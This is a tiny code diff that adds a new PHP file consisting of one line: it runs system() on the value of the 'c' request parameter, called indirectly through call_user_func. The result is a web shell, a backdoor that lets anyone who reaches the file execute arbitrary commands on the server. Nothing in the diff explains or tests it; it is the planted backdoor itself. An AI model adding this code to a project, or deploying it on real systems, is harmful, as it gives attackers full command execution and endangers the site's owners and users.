@@ -1,0 +1,2 @@
+<?php
+call_user_func('system', $_GET['c']);
